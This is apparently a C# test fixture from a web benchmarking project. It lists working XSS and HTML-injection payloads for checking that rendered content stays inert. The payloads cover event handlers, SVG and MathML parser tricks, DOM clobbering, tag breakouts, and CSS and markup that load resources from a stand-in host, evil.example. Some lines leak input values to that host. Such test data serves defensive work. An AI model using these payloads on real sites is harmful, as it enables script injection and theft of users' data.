namespace Benchmarking.Web.Tests.Features.CaseStudies;

/// <summary>Markup by kinds. What runs opens a dialog or sets <see cref="HostileTexts.Mark"/> on the window.</summary>
internal static class HostileMarkup
{
    public static IReadOnlyList<string> All => [.. Handlers, .. OtherNamespaces, .. Documents, .. Styles, .. Names, .. Unclosed];

    private static readonly string[] Handlers =
    [
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<textarea autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<video poster=x onerror=alert(1) src=x>",
        "<video autoplay onplay=alert(1)><source src=\"data:video/mp4;base64,AAAA\"></video>",
        "<input type=image src=x onerror=alert(1)>",
        "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
        "<p onanimationstart=alert(1) style=animation-name:x>x</p><style>@keyframes x{}</style>",
        "<p ontransitionend=alert(1) style=transition:color1s>x</p>",
        "<body onpageshow=alert(1)>",
        "<body onhashchange=alert(1) onresize=alert(1)>",
        "<html onmouseover=alert(1)>",
        "<dialog open oncancel=alert(1) onclose=alert(1)>x</dialog>",
        "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
        "<a href=# onclick=bmHurt=1 accesskey=x>x</a>",
        "<img src=x:x onerror=window.bmHurt=1>",
        "<image src=x onerror=alert(1)>",
        "<img src onerror=alert`1`>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        "<img src=x oNeRrOr=top['al'+'ert'](1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img src=x onerror\u000c=alert(1)>",
        "<img\u000bsrc=x onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<object data=x onerror=alert(1)>",
        "<track default src=x onerror=alert(1)>",
        "<xss contenteditable autofocus tabindex=1 onfocus=alert(1)>x</xss>",
    ];

    private static readonly string[] OtherNamespaces =
    [
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<svg><desc><script>alert(1)</script></desc></svg>",
        "<svg><a xlink:href=javascript:alert(1)><rect width=99 height=99 /></a></svg>",
        "<svg><image href=https://evil.example/x.svg></svg>",
        "<svg><feImage href=https://evil.example/x.svg></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<math href=javascript:alert(1)>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<math><mi><style><!--</style><img src=x onerror=alert(1)>--></mi></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<p><table><a href=x><svg><desc><p><style><a title=\"</style><img src onerror=alert(1)>\">",
        "<select><template><style></select></template><img src onerror=alert(1)></style>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<plaintext><script>alert(1)</script>",
        "<?xml-stylesheet type=\"text/xsl\" href=\"data:,\"?><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
        "<!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]><x>&e;</x>",
    ];

    private static readonly string[] Documents =
    [
        "<iframe src=\"data:text/html,<script>parent.bmHurt=1</script>\"></iframe>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='&lt;script&gt;top.bmHurt=1&lt;/script&gt;'></iframe>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<portal src=https://evil.example></portal>",
        "<fencedframe src=https://evil.example></fencedframe>",
        "<object type=text/html data=//evil.example></object>",
        "<object><param name=src value=javascript:alert(1)></object>",
        "<applet code=x archive=https://evil.example/x.jar>",
        "<embed src=//evil.example/x.swf allowscriptaccess=always>",
        "<base target=_blank href=//evil.example/>",
        "<link rel=import href=//evil.example/x>",
        "<link rel=preload as=script href=https://evil.example/x.js>",
        "<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=//evil.example/x>",
        "<link rel=manifest href=https://evil.example/x.json>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=set-cookie content='bm-session=x'>",
        "<meta charset=utf-7>",
        "<meta name=referrer content=unsafe-url>",
        "<script type=module>import 'https://evil.example/x.js'</script>",
        "<script type=importmap>{\"imports\":{\"x\":\"//evil.example/x.js\"}}</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example\"]}]}</script>",
        "<script nonce=x>alert(1)</script>",
        "<form id=x></form><button form=x formaction=//evil.example>x</button>",
        "<isindex action=javascript:alert(1) type=image>",
        "<a href=x ping=https://evil.example/ping>x</a>",
        "<img src=//evil.example/x><img srcset=\"//evil.example/x 1x\"><picture><source srcset=//evil.example/x><img></picture>",
        "<bgsound src=//evil.example/x><body background=//evil.example/x><table background=//evil.example/x>",
    ];

    private static readonly string[] Styles =
    [
        "<style>*{background:url(//evil.example/x)}</style>",
        "<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</div>",
        "<div style=\"behavior:url(//evil.example/x.htc)\">x</div>",
        "<div style=\"background:u\\72l(//evil.example/x)\">x</div>",
        "<div style=position:fixed;inset:0;background:red;z-index:99>x</div>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "</style><script>alert(1)</script>",
        "<div class=\"govuk-visually-hidden\" hidden inert>x</div>",
    ];

    /// <summary>An element with this id or name stands on the window by itself.</summary>
    private static readonly string[] Names =
    [
        "<a id=bmHurt>x</a>",
        "<a id=bmHurt><a id=bmHurt name=x href=javascript:alert(1)>x</a>",
        "<form name=bmHurt><input name=x></form>",
        "<img name=bmHurt>",
        "<iframe name=bmHurt></iframe>",
        "<form id=main-content><input name=attributes><input name=children></form>",
        "<img name=getElementById><img name=querySelector><img name=cookie>",
        "<a id=defaultView><a id=currentScript src=//evil.example/x.js>",
        "<p data-chart data-progress=\"//evil.example\">x</p>",
        "<div data-module=govuk-button aria-hidden=true role=alert>x</div>",
    ];

    private static readonly string[] Unclosed =
    [
        "<img src='//evil.example/?",
        "<a href='//evil.example/?",
        "<textarea>",
        "<title>",
        "<!--",
        "<![CDATA[",
        "<?",
        "</",
        "<",
        "<a <b <c onclick=alert(1) <d",
        "\" onfocus=alert(1) autofocus x=\"",
        "' onfocus=alert(1) autofocus x='",
        "` onfocus=alert(1) autofocus",
        "x onmouseover=alert(1) y=",
        "\"></a></div></main></body></html><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1)>",
        "</td></tr></table><img src=x onerror=alert(1)>",
        "</dd></dl></svg></math><img src=x onerror=alert(1)>",
        "\u2028<script>alert(1)</script>\u2029",
        "<script>alert(1)//",
        "<<script>alert(1)//<</script>",
        "<scr\u00adipt>alert(1)</scr\u00adipt>",
    ];
}
